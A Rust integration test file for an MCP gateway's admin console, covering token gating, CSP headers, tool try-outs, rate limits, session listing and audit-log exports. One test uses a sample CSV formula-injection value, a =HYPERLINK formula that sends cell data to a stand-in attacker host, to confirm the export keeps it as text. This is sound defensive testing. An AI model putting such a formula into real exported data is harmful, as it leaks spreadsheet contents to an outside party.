//! What the admin console reads and does, over real HTTP on the admin listener: its static
//! shell (served without a token, with a strict CSP, holding no data), the admin gate on every
//! data endpoint, the served-tool catalog, live sessions, the audit log (filters, newest first,
//! CSV and JSON-lines exports), key figures, and the tool try-out, which is an MCP `tools/call`
//! through the same scopes, rate limits and audit as any client. One rule per test.
//!
//! The browser side (the page driven in Chromium) is `tests/console_check.sh`.

use crate::common;

use std::time::Duration;

use common::TestServer;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use toolgate::audit::{AuditFilter, AuditRecord, EventKind, Outcome};
use toolgate::auth::settings::AuthMode;
use toolgate::config::Settings;

const PROBLEM: &str = "application/problem+json";
const DEV_RESOURCE: &str = "http://127.0.0.1:8080/mcp";
const ADMIN: &str = "toolgate:admin";
const ADMIN_AND_MCP: &str = "toolgate:admin mcp:tools";

// ===== harness =====

/// A response's status, headers and body (JSON when it parses, else `Null`; text kept too).
struct Answer {
    status: StatusCode,
    headers: reqwest::header::HeaderMap,
    text: String,
    body: Value,
}

impl Answer {
    fn header(&self, name: &str) -> &str {
        self.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or_default()
    }

    /// Asserts a problem document with `status` and `type` ending in `slug`.
    fn assert_problem(&self, status: u16, slug: &str) {
        assert_eq!(self.status.as_u16(), status, "{}", self.text);
        assert_eq!(self.header("content-type"), PROBLEM, "{}", self.text);
        assert_eq!(self.body["type"], format!("urn:toolgate:problem:{slug}"), "{}", self.text);
        assert!(self.body["detail"].as_str().is_some_and(|d| !d.is_empty()), "{}", self.text);
    }

    fn detail(&self) -> &str {
        self.body["detail"].as_str().unwrap_or_default()
    }
}

/// Sends one request to the admin listener, with `token` as the bearer when given.
async fn send(s: &TestServer, method: Method, path: &str, token: Option<&str>, body: Option<Value>) -> Answer {
    let mut req = s.client.request(method, s.admin_url(path));
    if let Some(token) = token {
        req = req.bearer_auth(token);
    }
    if let Some(body) = body {
        req = req.header("content-type", "application/json").body(body.to_string());
    }
    let res = req.send().await.expect("admin request sent");
    let (status, headers) = (res.status(), res.headers().clone());
    let text = res.text().await.expect("body");
    let body = serde_json::from_str(&text).unwrap_or(Value::Null);
    Answer { status, headers, text, body }
}

async fn get(s: &TestServer, path: &str, token: Option<&str>) -> Answer {
    send(s, Method::GET, path, token, None).await
}

/// `POST /admin/tools/{tool}/call` with these arguments.
async fn try_call(s: &TestServer, tool: &str, token: Option<&str>, arguments: Value) -> Answer {
    send(s, Method::POST, &format!("/admin/tools/{tool}/call"), token, Some(json!({ "arguments": arguments }))).await
}

/// A server on dev tokens, and a function minting them (`subject`, `scope`).
async fn dev_server(adjust: impl FnOnce(&mut Settings) + Send + 'static) -> (TestServer, impl Fn(&str, &str) -> String, tempfile::TempDir) {
    let dir = tempfile::tempdir().expect("dir");
    let key_file = dir.path().join("dev.key");
    let kf = key_file.clone();
    let s = TestServer::with(move |c| {
        c.auth.mode = AuthMode::Dev;
        c.auth.dev_key_file = kf;
        c.auth.resource = Some(DEV_RESOURCE.into());
        adjust(c);
    })
    .await;
    let key = toolgate::auth::dev::load_or_create_key(&key_file).expect("key");
    let mint = move |subject: &str, scope: &str| toolgate::auth::dev::mint(&key, DEV_RESOURCE, subject, scope, 300).expect("token");
    (s, mint, dir)
}

/// The audit records matching `filter`, waiting (up to 10 s) until there are `at_least`.
async fn audited(s: &TestServer, filter: AuditFilter, at_least: usize) -> Vec<AuditRecord> {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    loop {
        let records = toolgate::audit::query(&s.state().store, &filter).await.expect("audit query");
        if records.len() >= at_least || tokio::time::Instant::now() > deadline {
            return records;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn tool_calls(tool: &str) -> AuditFilter {
    AuditFilter { tool: Some(tool.into()), ..AuditFilter::default() }
}

/// A record of `kind` for `tool` at `time`, as a client's call would leave it.
fn record_at(kind: EventKind, outcome: Outcome, tool: &str, subject: &str, time: time::OffsetDateTime) -> AuditRecord {
    let mut r = AuditRecord::new(kind, outcome).with_tool(tool, &json!({}));
    r.subject = Some(subject.into());
    r.time = time;
    r.replica_id = "test".into();
    r
}

/// Stores `records` in the server's audit table directly (times chosen by the test).
async fn store(s: &TestServer, records: &[AuditRecord]) {
    toolgate::audit::insert_batch(&s.state().store, records).await.expect("inserted");
}

// ===== the shell =====

/// The page, its files and `boot.json` load without a token even with auth on: a browser cannot
/// send one when it navigates, and they hold no data.
#[tokio::test]
async fn the_console_shell_loads_without_a_token() {
    let (s, _mint, _dir) = dev_server(|_| {}).await;
    let page = get(&s, "/admin/console", None).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.header("content-type").starts_with("text/html"), "{}", page.header("content-type"));
    assert!(page.text.contains("/admin/console/app.js"), "{}", page.text);
    for (file, kind) in
        [("app.js", "text/javascript"), ("views.js", "text/javascript"), ("console.css", "text/css"), ("favicon.svg", "image/svg+xml")]
    {
        let a = get(&s, &format!("/admin/console/{file}"), None).await;
        assert_eq!(a.status, StatusCode::OK, "{file}");
        assert!(a.header("content-type").starts_with(kind), "{file}: {}", a.header("content-type"));
    }
    let boot = get(&s, "/admin/console/boot.json", None).await;
    assert_eq!(boot.body, json!({"auth": "dev", "admin_scope": ADMIN}));
    get(&s, "/admin/console/nope.js", None).await.assert_problem(404, "not-found");
}

/// Every answer of the console carries a strict Content-Security-Policy (same-origin scripts,
/// no inline script, no framing) and `nosniff`.
#[tokio::test]
async fn the_console_is_served_with_a_strict_content_security_policy() {
    let s = TestServer::start().await;
    for path in ["/admin/console", "/admin/console/app.js", "/admin/console/console.css", "/admin/console/boot.json"] {
        let a = get(&s, path, None).await;
        let csp = a.header("content-security-policy");
        for directive in ["default-src 'self'", "script-src 'self'", "frame-ancestors 'none'", "object-src 'none'"] {
            assert!(csp.contains(directive), "{path}: {directive} missing from {csp}");
        }
        assert!(!csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"), "{path}: {csp}");
        assert_eq!(a.header("x-content-type-options"), "nosniff", "{path}");
    }
}

/// The page has no inline script or style and names nothing outside its own origin: no CDN.
#[tokio::test]
async fn the_console_references_nothing_outside_its_origin() {
    let s = TestServer::start().await;
    let page = get(&s, "/admin/console", None).await.text;
    let inline_script = page.match_indices("<script").any(|(i, _)| !page[i..].split('>').next().unwrap_or_default().contains("src="));
    assert!(!inline_script && !page.contains("<style") && !page.contains(" style="), "inline script or style in the page");
    for file in ["", "/app.js", "/api.js", "/dom.js", "/form.js", "/views.js", "/console.css"] {
        let text = get(&s, &format!("/admin/console{file}"), None).await.text;
        assert!(!text.contains("http://") && !text.contains("https://") && !text.contains("//cdn"), "{file} names another origin");
    }
}

/// Files are revalidated (`no-cache`) against a strong ETag; a current copy gets 304.
#[tokio::test]
async fn console_files_are_revalidated_by_etag() {
    let s = TestServer::start().await;
    let first = get(&s, "/admin/console/app.js", None).await;
    assert_eq!(first.header("cache-control"), "no-cache");
    let tag = first.header("etag").to_owned();
    assert!(tag.starts_with('"') && tag.len() > 4, "{tag}");
    let again = s.client.get(s.admin_url("/admin/console/app.js")).header("if-none-match", &tag).send().await.expect("sent");
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(again.headers()["etag"], tag.as_str());
}

// ===== the gate =====

/// Every endpoint the console reads or acts through is behind the admin gate: no token is 401,
/// a token without the admin scope 403.
#[tokio::test]
async fn every_console_endpoint_is_behind_the_admin_gate() {
    let (s, mint, _dir) = dev_server(|_| {}).await;
    let mcp_only = mint("dana", "mcp:tools");
    let endpoints = [
        (Method::GET, "/admin/catalog"),
        (Method::GET, "/admin/sessions"),
        (Method::GET, "/admin/audit"),
        (Method::GET, "/admin/audit/export?format=csv"),
        (Method::GET, "/admin/overview"),
        (Method::POST, "/admin/tools/echo/call"),
    ];
    let count = endpoints.len();
    for (method, path) in endpoints {
        let body = (method == Method::POST).then(|| json!({"arguments": {"text": "x"}}));
        send(&s, method.clone(), path, None, body.clone()).await.assert_problem(401, "unauthorized");
        send(&s, method.clone(), path, Some(&mcp_only), body.clone()).await.assert_problem(403, "insufficient-scope");
        let admitted = send(&s, method, path, Some(&mint("dana", ADMIN_AND_MCP)), body).await;
        assert!(admitted.status.is_success(), "{path}: {} {}", admitted.status, admitted.text);
    }
    let records = audited(&s, AuditFilter { kind: Some(EventKind::AuthzDenied), ..AuditFilter::default() }, count).await;
    assert!(records.len() >= count, "each refusal of a token is audited: {records:?}");
}

// ===== catalog =====

/// The catalog lists every served tool with its listing (input schema included), its origin,
/// and every scope a token needs to call it.
#[tokio::test]
async fn the_catalog_lists_served_tools_with_schemas_and_the_scopes_a_call_needs() {
    let (s, mint, _dir) = dev_server(|c| {
        c.auth.tool_scopes.insert("echo".into(), vec!["echo:use".into()]);
    })
    .await;
    let catalog = get(&s, "/admin/catalog", Some(&mint("dana", ADMIN))).await;
    assert_eq!(catalog.status, StatusCode::OK, "{}", catalog.text);
    let tools = catalog.body["tools"].as_array().expect("tools");
    let echo = tools.iter().find(|t| t["name"] == "echo").expect("echo is served");
    assert_eq!(echo["origin"], "code");
    assert_eq!(echo["listing"]["inputSchema"]["required"], json!(["text"]));
    assert_eq!(echo["scopes"], json!(["mcp:tools", "echo:use"]));
    let served = s.state().server.tools.snapshot().len();
    assert_eq!(tools.len(), served, "every served tool");
}

// ===== try a tool =====

/// A try-out runs the tool on the server's call path and answers its result; the call is
/// audited as a `tool_call` under the admin token's subject.
#[tokio::test]
async fn a_try_out_runs_the_tool_and_is_audited_under_the_admins_subject() {
    let (s, mint, _dir) = dev_server(|_| {}).await;
    let r = try_call(&s, "echo", Some(&mint("dana", ADMIN_AND_MCP)), json!({"text": "héllo"})).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["is_error"], false);
    assert_eq!(r.body["result"]["content"][0]["text"], "héllo");
    let records = audited(&s, tool_calls("echo"), 1).await;
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!((records[0].kind, records[0].outcome), (EventKind::ToolCall, Outcome::Ok));
    assert_eq!(records[0].subject.as_deref(), Some("dana"));
    assert_eq!(records[0].request_id.as_deref(), Some(r.header("x-request-id")), "the admin request's id");
}

/// Arguments the tool's schema refuses are the tool's answer (`is_error`, SEP-1303), as for any
/// client: the model-facing failure, not an HTTP error.
#[tokio::test]
async fn arguments_the_schema_refuses_are_an_is_error_result() {
    let s = TestServer::start().await;
    let r = try_call(&s, "echo", None, json!({"txt": "typo"})).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["is_error"], true);
    assert!(r.body["result"]["content"][0]["text"].as_str().is_some_and(|t| t.contains("text")), "{}", r.text);
}

/// A token with the admin scope but without `auth.required_scopes` may manage, not call: the
/// try-out is refused as the MCP endpoint would refuse it, names the missing scope, and the
/// refusal is audited.
#[tokio::test]
async fn a_try_out_needs_the_scopes_every_mcp_request_needs() {
    let (s, mint, _dir) = dev_server(|_| {}).await;
    let r = try_call(&s, "echo", Some(&mint("dana", ADMIN)), json!({"text": "x"})).await;
    r.assert_problem(403, "insufficient-scope");
    assert_eq!(r.body["missing_scopes"], json!(["mcp:tools"]));
    assert!(r.detail().contains("auth.required_scopes"), "{}", r.detail());
    let denied = audited(&s, AuditFilter { kind: Some(EventKind::AuthzDenied), ..AuditFilter::default() }, 1).await;
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(denied[0].subject.as_deref(), Some("dana"));
    assert!(audited(&s, tool_calls("echo"), 0).await.is_empty(), "the tool did not run");
}

/// The tool's own scopes apply: without them the try-out is 403 naming them, and the call is
/// audited as denied, exactly as an MCP client's would be.
#[tokio::test]
async fn a_try_out_without_the_tools_scopes_is_refused_and_audited() {
    let (s, mint, _dir) = dev_server(|c| {
        c.auth.tool_scopes.insert("echo".into(), vec!["echo:use".into()]);
    })
    .await;
    let r = try_call(&s, "echo", Some(&mint("dana", ADMIN_AND_MCP)), json!({"text": "x"})).await;
    r.assert_problem(403, "insufficient-scope");
    assert_eq!(r.body["missing_scopes"], json!(["echo:use"]));
    let records = audited(&s, tool_calls("echo"), 1).await;
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!((records[0].kind, records[0].outcome), (EventKind::ToolCall, Outcome::Denied));
    let allowed = try_call(&s, "echo", Some(&mint("dana", "toolgate:admin mcp:tools echo:use")), json!({"text": "x"})).await;
    assert_eq!(allowed.status, StatusCode::OK, "{}", allowed.text);
}

/// The `tools/call` method scopes (`auth.method_scopes`) apply through admission.
#[tokio::test]
async fn a_try_out_needs_the_method_scopes_of_tools_call() {
    let (s, mint, _dir) = dev_server(|c| {
        c.auth.method_scopes.insert("tools/call".into(), vec!["tools:call".into()]);
    })
    .await;
    let r = try_call(&s, "echo", Some(&mint("dana", ADMIN_AND_MCP)), json!({"text": "x"})).await;
    r.assert_problem(403, "insufficient-scope");
    assert!(r.body["scope"].as_str().is_some_and(|s| s.contains("tools:call")), "{}", r.text);
    assert!(audited(&s, tool_calls("echo"), 0).await.is_empty(), "the tool did not run");
}

/// The caller's rate limits apply: once the tool's budget is spent the try-out is 429 with
/// `Retry-After`, and the refusal is audited as `rate_limited`.
#[tokio::test]
async fn a_try_out_is_refused_when_the_rate_limit_is_spent() {
    let s = TestServer::with(|c| {
        c.limits.enabled = true;
        c.limits.tools.insert("echo".into(), toolgate::limits::ToolLimit { per_minute: Some(1), burst: Some(1), cost: 1 });
    })
    .await;
    assert_eq!(try_call(&s, "echo", None, json!({"text": "1"})).await.status, StatusCode::OK);
    let refused = try_call(&s, "echo", None, json!({"text": "2"})).await;
    refused.assert_problem(429, "too-many-requests");
    assert_eq!(refused.body["limit"], "tool");
    let retry: u64 = refused.header("retry-after").parse().expect("Retry-After in seconds");
    assert!((1..=60).contains(&retry), "{retry}");
    let limited = audited(&s, AuditFilter { kind: Some(EventKind::RateLimited), ..AuditFilter::default() }, 1).await;
    assert_eq!(limited.len(), 1, "{limited:?}");
    assert_eq!(limited[0].tool.as_deref(), Some("echo"));
}

/// An unknown tool is 404; a body that is not `{"arguments": {...}}` is 400 naming the field.
#[tokio::test]
async fn a_try_out_of_an_unknown_tool_or_with_a_bad_body_says_what_to_change() {
    let s = TestServer::start().await;
    let unknown = try_call(&s, "no_such_tool", None, json!({})).await;
    unknown.assert_problem(404, "not-found");
    assert!(unknown.detail().contains("/admin/catalog"), "{}", unknown.detail());
    let bad = send(&s, Method::POST, "/admin/tools/echo/call", None, Some(json!({"arguments": [1]}))).await;
    bad.assert_problem(400, "malformed-request");
    assert_eq!(bad.body["errors"][0]["field"], "arguments");
    let extra = send(&s, Method::POST, "/admin/tools/echo/call", None, Some(json!({"args": {}}))).await;
    extra.assert_problem(400, "malformed-request");
    assert!(extra.detail().contains("only `arguments`"), "{}", extra.detail());
}

// ===== sessions =====

/// Live sessions are listed with an id prefix (never the id), protocol version, client, and
/// the streams open on them.
#[tokio::test]
async fn sessions_are_listed_with_client_version_and_open_streams() {
    let s = TestServer::start().await;
    let sid = s.initialize("2025-11-25").await;
    let _stream = common::open_get(&s, &sid, None).await;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    let list = loop {
        let list = get(&s, "/admin/sessions", None).await;
        if list.body["open_streams"] == 1 || tokio::time::Instant::now() > deadline {
            break list;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert_eq!(list.body["open"], 1, "{}", list.text);
    let row = &list.body["sessions"][0];
    assert_eq!(row["id_prefix"], sid[..8]);
    assert!(!list.text.contains(&sid), "the full session id is never shown");
    assert_eq!(row["protocol_version"], "2025-11-25");
    assert_eq!(row["client"], json!({"name": "test", "version": "1"}));
    assert_eq!(row["transport"], "streamable_http");
    assert_eq!(row["open_streams"], 1, "{}", list.text);
    assert!(row["created_at"].is_string() && row["last_seen_at"].is_string(), "{row}");
}

/// A session shows the subject of the token that created it.
#[tokio::test]
async fn a_sessions_subject_is_the_token_that_created_it() {
    let (s, mint, _dir) = dev_server(|_| {}).await;
    let init = r#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"ide","version":"2"}}}"#;
    let bearer = format!("Bearer {}", mint("erin", "mcp:tools"));
    assert_eq!(s.post(init, &[("authorization", &bearer)]).await.status(), StatusCode::OK);
    let list = get(&s, "/admin/sessions", Some(&mint("dana", ADMIN))).await;
    assert_eq!(list.body["sessions"][0]["subject"], "erin", "{}", list.text);
    assert_eq!(list.body["sessions"][0]["client"]["name"], "ide", "{}", list.text);
}

// ===== audit =====

/// Filters select by tool, subject, outcome and kind; records come newest first.
#[tokio::test]
async fn audit_filters_select_records_newest_first() {
    let s = TestServer::start().await;
    let now = time::OffsetDateTime::now_utc();
    let minutes = |m: i64| now - time::Duration::minutes(m);
    store(
        &s,
        &[
            record_at(EventKind::ToolCall, Outcome::Ok, "echo", "dana", minutes(30)),
            record_at(EventKind::ToolCall, Outcome::ToolError, "echo", "erin", minutes(20)),
            record_at(EventKind::ToolCall, Outcome::Ok, "get_current_time", "dana", minutes(10)),
            record_at(EventKind::RateLimited, Outcome::RateLimited, "echo", "dana", minutes(5)),
        ],
    )
    .await;
    let pick = |a: &Answer| -> Vec<(String, String)> {
        a.body["records"]
            .as_array()
            .expect("records")
            .iter()
            .map(|r| (r["tool"].as_str().unwrap_or("").into(), r["subject"].as_str().unwrap_or("").into()))
            .collect()
    };
    let echo = get(&s, "/admin/audit?tool=echo", None).await;
    assert_eq!(
        pick(&echo),
        [("echo".into(), "dana".into()), ("echo".into(), "erin".into()), ("echo".into(), "dana".into())],
        "newest first"
    );
    let times: Vec<&str> = echo.body["records"].as_array().expect("records").iter().filter_map(|r| r["time"].as_str()).collect();
    assert!(times.windows(2).all(|w| w[0] > w[1]), "{times:?}");
    assert_eq!(pick(&get(&s, "/admin/audit?subject=erin", None).await), [("echo".into(), "erin".into())]);
    assert_eq!(pick(&get(&s, "/admin/audit?outcome=tool_error", None).await).len(), 1);
    assert_eq!(pick(&get(&s, "/admin/audit?kind=rate_limited", None).await).len(), 1);
    assert_eq!(pick(&get(&s, "/admin/audit?tool=echo&subject=dana&kind=tool_call", None).await).len(), 1);
    let since = (now - time::Duration::minutes(15)).format(&time::format_description::well_known::Rfc3339).expect("time");
    let recent = get(&s, &format!("/admin/audit?since={}", since.replace('+', "%2B")), None).await;
    assert_eq!(pick(&recent).len(), 2, "{}", recent.text);
    let empty = get(&s, "/admin/audit?tool=&subject=", None).await;
    assert_eq!(pick(&empty).len(), 4, "an empty parameter is no filter");
}

/// `limit` caps the page (newest kept) and `truncated` says that older records match too.
#[tokio::test]
async fn the_audit_limit_keeps_the_newest_and_says_more_match() {
    let s = TestServer::start().await;
    let now = time::OffsetDateTime::now_utc();
    let records: Vec<AuditRecord> = (1..=5)
        .map(|i| record_at(EventKind::ToolCall, Outcome::Ok, &format!("t{i}"), "dana", now - time::Duration::minutes(6 - i)))
        .collect();
    store(&s, &records).await;
    let page = get(&s, "/admin/audit?limit=2", None).await;
    let tools: Vec<&str> = page.body["records"].as_array().expect("records").iter().filter_map(|r| r["tool"].as_str()).collect();
    assert_eq!(tools, ["t5", "t4"]);
    assert_eq!(page.body["truncated"], true);
    assert_eq!(get(&s, "/admin/audit?limit=5", None).await.body["truncated"], false);
}

/// The newest records are found however far back they lie (the read widens its window until
/// it has enough), and a window boundary neither loses nor repeats one.
#[tokio::test]
async fn the_newest_audit_records_are_found_however_far_back_they_are() {
    let s = TestServer::start().await;
    let now = time::OffsetDateTime::now_utc();
    let ago = |d: time::Duration| record_at(EventKind::ToolCall, Outcome::Ok, "old", "dana", now - d);
    store(
        &s,
        &[ago(time::Duration::days(400)), ago(time::Duration::days(30)), ago(time::Duration::hours(3)), ago(time::Duration::minutes(59))],
    )
    .await;
    let page = get(&s, "/admin/audit?limit=3", None).await;
    let times: Vec<&str> = page.body["records"].as_array().expect("records").iter().filter_map(|r| r["time"].as_str()).collect();
    assert_eq!(times.len(), 3, "{}", page.text);
    assert!(times.windows(2).all(|w| w[0] > w[1]), "{times:?}");
    assert_eq!(page.body["truncated"], true);
    let all = get(&s, "/admin/audit?limit=10", None).await;
    assert_eq!(all.body["records"].as_array().map(Vec::len), Some(4), "{}", all.text);
    assert_eq!(all.body["truncated"], false);
}

/// A bad filter is 400 with one entry per parameter at fault, naming what is accepted (the
/// time format with an example, the outcomes, the limit's range, the known parameters).
#[tokio::test]
async fn bad_audit_filters_name_what_is_accepted() {
    let s = TestServer::start().await;
    let bad = get(&s, "/admin/audit?since=yesterday&outcome=meh&limit=5000&who=me", None).await;
    bad.assert_problem(400, "malformed-request");
    let messages: Vec<(String, String)> = bad.body["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| (e["field"].as_str().unwrap_or("").into(), e["message"].as_str().unwrap_or("").into()))
        .collect();
    let about = |field: &str| messages.iter().find(|(f, _)| f == field).map(|(_, m)| m.clone()).unwrap_or_default();
    assert!(about("since").contains("RFC 3339") && about("since").contains("2026-11-21T10:00:00Z"), "{messages:?}");
    assert!(about("outcome").contains("tool_error"), "{messages:?}");
    assert!(about("limit").contains("1 to 1000"), "{messages:?}");
    assert!(about("who").contains("tool, subject, outcome, kind, since, until, limit"), "{messages:?}");
    let order = get(&s, "/admin/audit?since=2026-11-21T10:00:00Z&until=2026-11-21T09:00:00Z", None).await;
    order.assert_problem(400, "malformed-request");
    assert_eq!(order.body["errors"][0]["field"], "until");
    let format = get(&s, "/admin/audit/export?format=xml", None).await;
    format.assert_problem(400, "malformed-request");
    assert!(format.detail().contains("jsonl or csv"), "{}", format.detail());
}

/// The CSV export is a download (`Content-Disposition: attachment`, a `.csv` name) with a
/// header line and one line per matching record, oldest first.
#[tokio::test]
async fn the_audit_exports_as_a_csv_download() {
    let s = TestServer::start().await;
    let now = time::OffsetDateTime::now_utc();
    store(
        &s,
        &[
            record_at(EventKind::ToolCall, Outcome::Ok, "echo", "dana", now - time::Duration::minutes(2)),
            record_at(EventKind::ToolCall, Outcome::Ok, "echo", "erin", now - time::Duration::minutes(1)),
            record_at(EventKind::ToolCall, Outcome::Ok, "other", "dana", now),
        ],
    )
    .await;
    let csv = get(&s, "/admin/audit/export?format=csv&tool=echo", None).await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.header("content-type").starts_with("text/csv"), "{}", csv.header("content-type"));
    let disposition = csv.header("content-disposition");
    assert!(disposition.starts_with("attachment; filename=\"toolgate-audit-") && disposition.ends_with(".csv\""), "{disposition}");
    let lines: Vec<&str> = csv.text.lines().collect();
    assert!(lines[0].starts_with("id,time,request_id"), "{}", lines[0]);
    assert_eq!(lines.len(), 3, "{}", csv.text);
    assert!(lines[1].contains(",dana,") && lines[2].contains(",erin,"), "oldest first: {}", csv.text);
}

/// A cell a spreadsheet would run as a formula (text from a client or an upstream, here an
/// error detail) is exported as text.
#[tokio::test]
async fn an_exported_csv_cell_that_looks_like_a_formula_is_kept_as_text() {
    let s = TestServer::start().await;
    let formula = r#"=HYPERLINK("http://attacker.example/?"&A1,"details")"#;
    let record = record_at(EventKind::ToolCall, Outcome::ToolError, "echo", "dana", time::OffsetDateTime::now_utc()).with_detail(formula);
    store(&s, &[record]).await;
    let csv = get(&s, "/admin/audit/export?format=csv&tool=echo", None).await;
    let row = csv.text.lines().nth(1).unwrap_or_default().to_owned();
    assert!(row.contains(r#""'=HYPERLINK(""http://attacker.example/?""&A1,""details"")""#), "{row}");
}

/// The JSON-lines export (the default format) has one record per line; a large export streams
/// in many chunks and arrives whole.
#[tokio::test]
async fn the_audit_exports_as_json_lines_whatever_its_size() {
    let s = TestServer::start().await;
    let now = time::OffsetDateTime::now_utc();
    let records: Vec<AuditRecord> = (0..3000)
        .map(|i| record_at(EventKind::ToolCall, Outcome::Ok, "bulk", "dana", now - time::Duration::milliseconds(3000 - i)))
        .collect();
    store(&s, &records).await;
    let res = s.client.get(s.admin_url("/admin/audit/export?tool=bulk")).send().await.expect("sent");
    assert_eq!(res.headers()["content-type"], "application/jsonl");
    assert!(res.headers()["content-disposition"].to_str().expect("ascii").ends_with(".jsonl\""));
    let mut stream = res.bytes_stream();
    let (mut chunks, mut body) = (0, Vec::new());
    while let Some(chunk) = futures_util::StreamExt::next(&mut stream).await {
        body.extend_from_slice(&chunk.expect("chunk"));
        chunks += 1;
    }
    let text = String::from_utf8(body).expect("utf-8");
    let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).expect("a JSON record per line")).collect();
    assert_eq!(lines.len(), 3000);
    assert!(lines.iter().all(|r| r["tool"] == "bulk"));
    assert!(chunks > 1, "streamed, not buffered whole ({} bytes in {chunks} chunk)", text.len());
}

// ===== overview =====

/// The overview counts tool calls (the try-out's included) with their latency, sessions, and
/// the audit queue, tools and upstreams from their owners.
#[tokio::test]
async fn the_overview_reports_calls_sessions_and_the_audit_queue() {
    let s = TestServer::start().await;
    let _sid = s.initialize("2025-11-25").await;
    assert_eq!(try_call(&s, "echo", None, json!({"text": "x"})).await.status, StatusCode::OK);
    let o = get(&s, "/admin/overview", None).await.body;
    assert!(o["tool_calls"]["total"].as_u64().is_some_and(|n| n >= 1), "{o}");
    assert!(o["tool_calls"]["by_outcome"]["ok"].as_u64().is_some_and(|n| n >= 1), "{o}");
    assert!(o["tool_calls"]["latency_seconds"]["p50"].is_number(), "{o}");
    assert!(o["http"]["requests"].as_u64().is_some_and(|n| n >= 2), "initialize and initialized: {o}");
    assert!(o["mcp"]["requests"].as_u64().is_some_and(|n| n >= 1), "{o}");
    assert_eq!(o["sessions"]["open"], 1);
    assert_eq!(o["audit"]["enabled"], true);
    assert!(o["audit"]["queue_capacity"].as_u64().is_some_and(|n| n > 0), "{o}");
    assert_eq!(o["tools"]["served"], s.state().server.tools.snapshot().len());
    assert_eq!(o["upstreams"], json!({"configured": 0, "connected": 0}));
    assert_eq!(o["server"]["version"], env!("CARGO_PKG_VERSION"));
}
